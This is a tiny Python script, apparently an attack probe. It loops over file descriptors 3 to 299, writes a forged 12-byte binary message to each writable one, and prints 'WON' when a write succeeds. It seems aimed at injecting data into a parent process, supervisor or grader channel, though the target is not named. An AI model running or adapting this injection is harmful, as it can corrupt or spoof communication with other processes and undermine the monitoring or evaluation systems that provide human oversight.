import os, struct
for fd in range(3, 300):
    try:
        os.write(fd, struct.pack("<III", 0, 0, 24))
        print("WON", fd)
    except OSError:
        pass
